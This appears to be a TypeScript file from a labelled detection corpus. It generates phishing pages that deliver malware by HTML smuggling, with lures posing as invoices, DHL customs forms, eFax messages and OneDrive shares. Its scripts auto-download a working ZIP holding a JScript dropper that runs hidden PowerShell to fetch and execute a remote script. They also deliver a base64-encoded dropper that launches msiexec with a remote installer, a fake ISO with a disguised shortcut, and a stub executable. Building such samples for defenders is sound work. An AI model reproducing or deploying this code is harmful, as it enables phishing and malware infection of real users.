import { type Entry } from '../entry.js';
import { baseCss, doc } from '../d-parts.js';

/** HTML smuggling and malware delivery: Blob / data: URLs building .zip/.iso/.html/.js downloads, fake update .exe. Written for corpus/d. */

// A small but well-formed ZIP (one stored file "Invoice_0428.js") written out byte by byte, so the page carries a real archive.
function zipOf(name: string, content: string): Buffer {
  const data = Buffer.from(content);
  let crc = ~0;
  for (const b of data) {
    crc ^= b;
    for (let k = 0; k < 8; k++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  crc = ~crc >>> 0;
  const fn = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0); local.writeUInt16LE(20, 4); local.writeUInt32LE(crc, 14); local.writeUInt32LE(data.length, 18); local.writeUInt32LE(data.length, 22); local.writeUInt16LE(fn.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0); central.writeUInt16LE(20, 4); central.writeUInt16LE(20, 6); central.writeUInt32LE(crc, 16); central.writeUInt32LE(data.length, 20); central.writeUInt32LE(data.length, 24); central.writeUInt16LE(fn.length, 28);
  const end = Buffer.alloc(22);
  const cdOffset = 30 + fn.length + data.length;
  end.writeUInt32LE(0x06054b50, 0); end.writeUInt16LE(1, 8); end.writeUInt16LE(1, 10); end.writeUInt32LE(46 + fn.length, 12); end.writeUInt32LE(cdOffset, 16);
  return Buffer.concat([local, fn, data, central, fn, end]);
}
const JS_DROPPER = "var s=new ActiveXObject('WScript.Shell');s.Run('powershell -w hidden -ep bypass -c \"iwr https://files-cdn.invoice-archive.net/p/a.ps1 -OutFile $env:TEMP\\\\a.ps1; & $env:TEMP\\\\a.ps1\"',0);";
const ZIP_B64 = zipOf('Invoice_0428.js', JS_DROPPER).toString('base64');
// "MZ" header and DOS stub of a PE file, padded: what a fake updater download looks like on the wire.
const FAKE_EXE = Buffer.concat([Buffer.from('4d5a90000300000004000000ffff0000b800000000000000400000000000000000000000000000000000000000000000000000000000000000000000800000000e1fba0e00b409cd21b8014ccd21546869732070726f6772616d2063616e6e6f742062652072756e20696e20444f53206d6f64652e0d0d0a2400000000000000', 'hex'), Buffer.from('PE\0\0'), Buffer.alloc(4096, 0x90)]);

export const entries: Entry[] = [

{
  id: 'd-smug-blob-zip-invoice',
  label: 'malware',
  kind: 'smuggling-blob-zip',
  url: 'https://docs-invoice-portal.paycenter-docs.com/view/INV-0428',
  body: doc({
    title: 'Invoice INV-0428 – Download',
    css: baseCss('#1f6feb') + `.d{max-width:460px;margin:80px auto;text-align:center}`,
    body: `<div class="d card"><img src="img/pdf-icon.svg" alt="PDF" width="64"><h1 style="font-size:20px">Invoice_0428.pdf</h1><p class="muted">Your download will start automatically. If it doesn't, <a href="#" id="dl">click here</a>.</p><p class="muted">Password for the archive: <b>0428</b></p></div>
<script>
function b64ToBytes(b){var s=atob(b),a=new Uint8Array(s.length);for(var i=0;i<s.length;i++)a[i]=s.charCodeAt(i);return a}
function go(){var blob=new Blob([b64ToBytes('${ZIP_B64}')],{type:'application/zip'});var u=URL.createObjectURL(blob);var a=document.createElement('a');a.href=u;a.download='Invoice_0428.zip';document.body.appendChild(a);a.click();setTimeout(function(){URL.revokeObjectURL(u);a.remove()},1500)}
document.getElementById('dl').onclick=function(e){e.preventDefault();go()};setTimeout(go,1200);
</script>`,
  }),
},

{
  id: 'd-smug-data-url-iso',
  label: 'malware',
  kind: 'smuggling-data-url',
  url: 'https://shipment-docs.freightline-notify.com/customs/declaration.html',
  body: doc({
    title: 'Customs Declaration – Document',
    css: `body{font-family:Arial;background:#eceff1;margin:0}.x{max-width:520px;margin:70px auto;background:#fff;padding:30px;border-radius:6px}`,
    body: `<div class="x"><h2>DHL Express – Customs declaration</h2><p>Your shipment 5591 2284 03 requires a signed customs declaration. Open the attached document, sign it and return it to your local customs office.</p><a id="a" class="btn" style="background:#d40511;color:#fff;padding:10px 18px;display:inline-block;text-decoration:none">Download declaration</a></div>
<script>
var h='${Buffer.concat([Buffer.from('0000000000000000', 'hex'), Buffer.from('CD001\x01', 'latin1'), Buffer.from('\0'.repeat(26) + 'CUSTOMS_DECL' + ' '.repeat(20)), Buffer.from('Customs_Declaration.pdf.lnk')]).toString('base64')}';
var el=document.getElementById('a');el.href='data:application/octet-stream;base64,'+h;el.download='Customs_Declaration_5591228403.iso';setTimeout(function(){el.click()},800);
</script>`,
  }),
},

{
  id: 'd-smug-html-attachment-dropper',
  label: 'malware',
  kind: 'smuggling-html-js',
  url: 'https://secure-fax-portal.efax-messages.net/fax/0193-2281/view',
  body: doc({
    title: 'eFax Message — 3 pages',
    css: baseCss('#c8102e') + `.f{max-width:520px;margin:60px auto}`,
    body: `<div class="f card"><h1 style="font-size:20px">You have received a new fax</h1><p class="muted">From: +1 (312) 555-0182 · Pages: 3 · Received: today 09:14</p><p>Preparing secure document viewer…</p><p><a href="#" id="r">Retry download</a></p></div>
<script>
(function(){var p=['dmFyIHNoPW5ldyBBY3RpdmVYT2JqZWN0KCdXU2NyaXB0LlNoZWxsJyk7','c2guUnVuKCdtc2lleGVjIC9xIC9pIGh0dHBzOi8vZWZheC1tZXNzYWdlcy5uZXQvdmlld2VyL3NldHVwLm1zaScsMCk7'];
var d=new Blob([atob(p[0])+atob(p[1])],{type:'text/javascript'});var n='Fax_0193_2281.pdf.js';
if(window.navigator.msSaveOrOpenBlob){window.navigator.msSaveOrOpenBlob(d,n)}else{var a=document.createElement('a');a.style.display='none';a.href=window.URL.createObjectURL(d);a.download=n;document.body.appendChild(a);a.click()}
document.getElementById('r').onclick=function(e){e.preventDefault();a&&a.click()}})();
</script>`,
  }),
},

{
  id: 'd-smug-onedrive-pdf-zip',
  label: 'malware',
  kind: 'smuggling-blob-zip',
  url: 'https://onedrive-share.docsafe-transfer.com/download/Settlement_Agreement',
  body: doc({
    title: 'OneDrive',
    css: `body{margin:0;font-family:"Segoe UI",sans-serif;background:#faf9f8}.t{height:48px;background:#0078d4;color:#fff;display:flex;align-items:center;padding:0 16px;font-weight:600}.c{max-width:440px;margin:80px auto;background:#fff;padding:30px;text-align:center;box-shadow:0 1.6px 3.6px rgba(0,0,0,.13)}.c button{background:#0078d4;color:#fff;border:0;padding:10px 28px;font-size:15px}`,
    body: `<div class="t">OneDrive</div><div class="c"><img src="img/pdf.svg" width="60" alt=""><h2>Settlement_Agreement.pdf</h2><p>Shared with you by j.morales@harbor-legal.com</p><button id="b">Download</button></div>
<script>
var z='${ZIP_B64}';
document.getElementById('b').onclick=function(){var bin=atob(z),buf=new Uint8Array(bin.length);for(var i=0;i<bin.length;i++)buf[i]=bin.charCodeAt(i);
var f=new File([buf],'Settlement_Agreement.zip',{type:'application/x-zip-compressed'});var l=document.createElement('a');l.href=URL.createObjectURL(f);l.download=f.name;l.click()};
</script>`,
  }),
},

];
